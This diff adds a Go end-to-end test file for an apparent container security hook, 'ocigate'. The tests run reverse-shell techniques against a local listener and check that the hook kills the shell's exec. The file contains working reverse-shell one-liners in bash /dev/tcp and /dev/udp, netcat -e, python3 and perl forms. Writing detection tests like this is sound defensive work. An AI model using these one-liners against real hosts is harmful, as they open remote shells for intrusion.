@@ -1,0 +1,198 @@
+package e2e
+
+import (
+	"fmt"
+	"io"
+	"net/http"
+	"net/http/httptest"
+	"strconv"
+	"strings"
+	"testing"
+	"time"
+)
+
+// The reverse-shell techniques of seed 000 section 1.1, each run for real
+// in a container on the host root (the host's bash, python3, perl, nc: see
+// ctrOpts.HostRoot) in the host network namespace, against an attacker's
+// listener on 127.0.0.1 that types `echo PWNED-$((6*7)); exit` into
+// whatever connects. Each technique runs twice:
+//
+//   - without the hook (control): the listener must get PWNED-42, so the
+//     technique does work here and the protected run proves something;
+//   - with the hook (the e2e default profile, which has the reverse-shell
+//     exec selector): the shell's exec is killed (SIGKILL at
+//     sched_process_exec on this kernel), the listener gets no PWNED-42,
+//     and the agent reports the kill at security_bprm_check.
+//
+// Techniques whose shell never has a socket on its stdio need relayed-shell
+// detection and are not here yet: the shell's stdio is a pipe, a fifo or a
+// pty and another process relays it to the socket (mkfifo + nc, ncat -e,
+// python3 pty.spawn, socat exec:...,pty, openssl s_client + mkfifo).
+
+// technique is one reverse-shell one-liner.
+type technique struct {
+	name string
+	// shell is the path the killed exec was given (any, if empty).
+	shell string
+	// connects: the technique connects to the listener before the shell's
+	// exec, so even the protected run must show the connection.
+	connects bool
+	args     func(port int) []string
+	// listen starts the attacker's listener; default: TCP on 127.0.0.1.
+	listen func(t *testing.T) shellListener
+}
+
+func tcpShellListener(t *testing.T) shellListener {
+	return listen(t, "127.0.0.1:0", reverseShellGreeting)
+}
+
+func udpShellListener(t *testing.T) shellListener {
+	return listenUDP(t, reverseShellGreeting)
+}
+
+// testTechnique runs tc's control and protected runs.
+func testTechnique(t *testing.T, tc technique) {
+	needHostRoot(t)
+	if tc.listen == nil {
+		tc.listen = tcpShellListener
+	}
+	t.Run("control-unprotected", func(t *testing.T) {
+		ln := tc.listen(t)
+		res := runContainer(t, ctrOpts{Name: tc.name + "-control", HostRoot: true, NoHook: true, Args: tc.args(ln.Port())})
+		if !ln.WaitReceived(reverseShellAnswer, 5*time.Second) {
+			t.Fatalf("broken test: without ocigate the technique gave no shell (listener received %q); %v",
+				ln.Received(), res)
+		}
+	})
+	t.Run("protected", func(t *testing.T) {
+		ln := tc.listen(t)
+		res := runContainer(t, ctrOpts{Name: tc.name, HostRoot: true, Args: tc.args(ln.Port())})
+		if tcp, ok := ln.(interface{ WaitConn(time.Duration) bool }); ok && tc.connects && !tcp.WaitConn(time.Second) {
+			t.Errorf("the reverse connection itself (to an allowed address) never arrived; %v", res)
+		}
+		if ln.WaitReceived(reverseShellAnswer, 2*time.Second) {
+			t.Errorf("the attacker got a shell: listener received %q; %v", ln.Received(), res)
+		}
+		waitEvent(t, res.ID, killedShell(res.ID, tc.shell))
+	})
+}
+
+// bashDevTCP: bash -i >& /dev/tcp/HOST/PORT 0>&1 (bash opens the socket
+// itself, then runs an interactive bash on it).
+func bashDevTCP(port int) []string {
+	return []string{"/bin/bash", "-c", fmt.Sprintf("bash -i >& /dev/tcp/127.0.0.1/%d 0>&1", port)}
+}
+
+func TestTechniqueBashDevTCP(t *testing.T) {
+	testTechnique(t, technique{name: "tech-bash-tcp", shell: "/usr/bin/bash", connects: true, args: bashDevTCP})
+}
+
+// The same over UDP: the shell's stdio is a connected UDP socket, still
+// AF_INET.
+func TestTechniqueBashDevUDP(t *testing.T) {
+	testTechnique(t, technique{name: "tech-bash-udp", shell: "/usr/bin/bash", listen: udpShellListener, args: func(port int) []string {
+		return []string{"/bin/bash", "-c", fmt.Sprintf("bash -i >& /dev/udp/127.0.0.1/%d 0>&1", port)}
+	}})
+}
+
+// nc -e /bin/sh HOST PORT with Debian's netcat-traditional, whose -e puts
+// the socket itself on the shell's stdio. (ncat -e does not: it relays
+// through pipes, see the relayed techniques.)
+func TestTechniqueNcExec(t *testing.T) {
+	testTechnique(t, technique{name: "tech-nc-e", shell: "/bin/sh", connects: true, args: func(port int) []string {
+		return []string{"/usr/bin/nc.traditional", "-e", "/bin/sh", "127.0.0.1", strconv.Itoa(port)}
+	}})
+}
+
+// python3: socket, os.dup2 onto 0, 1 and 2, subprocess.call(["/bin/sh","-i"]).
+func TestTechniquePython3Dup2(t *testing.T) {
+	testTechnique(t, technique{name: "tech-python3", shell: "/bin/sh", connects: true, args: func(port int) []string {
+		return []string{"/usr/bin/python3", "-c", fmt.Sprintf(`import socket,subprocess,os
+s=socket.socket(socket.AF_INET,socket.SOCK_STREAM)
+s.connect(("127.0.0.1",%d))
+os.dup2(s.fileno(),0); os.dup2(s.fileno(),1); os.dup2(s.fileno(),2)
+subprocess.call(["/bin/sh","-i"])`, port)}
+	}})
+}
+
+// perl: Socket, open(STDIN/STDOUT/STDERR, ">&S"), exec("/bin/sh -i").
+func TestTechniquePerlSocket(t *testing.T) {
+	testTechnique(t, technique{name: "tech-perl", shell: "/bin/sh", connects: true, args: func(port int) []string {
+		return []string{"/usr/bin/perl", "-e", fmt.Sprintf(`use Socket;$i="127.0.0.1";$p=%d;`+
+			`socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));`+
+			`if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};`, port)}
+	}})
+}
+
+// The built-in reverse-shell policy in a monitor profile (picked by
+// annotation): the bash /dev/tcp shell is not stopped, and the event says
+// what enforce mode would have done.
+func TestTechniqueMonitorBashDevTCP(t *testing.T) {
+	needHostRoot(t)
+	ln := listen(t, "127.0.0.1:0", reverseShellGreeting)
+	res := runContainer(t, ctrOpts{Name: "tech-monitor", HostRoot: true, Args: bashDevTCP(ln.Port()),
+		Annotations: map[string]string{"ocigate.io/profile": "reverse-shell-monitor"}})
+	if !ln.WaitReceived(reverseShellAnswer, 5*time.Second) {
+		t.Errorf("monitor mode must not stop the shell: listener received %q; %v", ln.Received(), res)
+	}
+	waitEvent(t, res.ID, map[string]any{
+		"process_kprobe.function_name":        "security_bprm_check",
+		"process_kprobe.action":               "KPROBE_ACTION_SIGKILL",
+		"ocigate.container_id":                res.ID,
+		"process_kprobe.args.0.file_arg.path": "/usr/bin/bash",
+		"ocigate.profile":                     "reverse-shell-monitor",
+		"ocigate.mode":                        "monitor",
+		"ocigate.verdict":                     "would-deny",
+		"ocigate.enforced":                    false,
+	})
+	noEvent(t, res.ID, anyEnforced(res.ID))
+}
+
+// benign runs args on the host root under the default profile and checks
+// it exits 0, printed want, and drew no enforced verdict.
+func benign(t *testing.T, name, want string, args ...string) {
+	t.Helper()
+	res := runContainer(t, ctrOpts{Name: name, HostRoot: true, Args: args})
+	if res.ExitCode != 0 || strings.TrimSpace(res.Stdout) != want {
+		t.Errorf("want exit 0 and stdout %q; %v", want, res)
+	}
+	noEvent(t, res.ID, anyEnforced(res.ID))
+}
+
+// A shell script with pipes: the shells' stdio are pipes.
+func TestBenignShellPipeline(t *testing.T) {
+	needHostRoot(t)
+	benign(t, "benign-pipes", "HI", "/bin/sh", "-c", "echo hi | tr a-z A-Z | cat")
+}
+
+// A python3 HTTP client fetching from a loopback server the test runs: a
+// connected TCP socket in a well-known reverse-shell binary is not itself
+// a reverse shell.
+func TestBenignPython3HTTPClient(t *testing.T) {
+	needHostRoot(t)
+	const body = "hello from the host"
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		_, _ = io.WriteString(w, body)
+	}))
+	t.Cleanup(srv.Close)
+	benign(t, "benign-http", body, "/usr/bin/python3", "-c", fmt.Sprintf(`import sys,urllib.request
+with urllib.request.urlopen("%s/x", timeout=10) as r:
+    sys.stdout.write(r.read().decode())`, srv.URL))
+}
+
+// sh -c started by a process whose stdin, stdout and stderr are pipes.
+func TestBenignShellWithPipeStdio(t *testing.T) {
+	needHostRoot(t)
+	benign(t, "benign-pipe-stdio", "via-pipe", "/usr/bin/python3", "-c", `import subprocess,sys
+p=subprocess.run(["/bin/sh","-c","read x; echo $x"],input=b"via-pipe\n",stdout=subprocess.PIPE,stderr=subprocess.PIPE,check=True)
+sys.stdout.write(p.stdout.decode())`)
+}
+
+// getaddrinfo with AI_ADDRCONFIG opens a raw netlink socket (RTM_GETADDR):
+// the raw-socket rule is for inet sockets only.
+func TestBenignGetaddrinfoAddrconfig(t *testing.T) {
+	needHostRoot(t)
+	benign(t, "benign-gai", "ok", "/usr/bin/python3", "-c", `import socket
+socket.getaddrinfo("localhost", 80, flags=socket.AI_ADDRCONFIG)
+print("ok")`)
+}
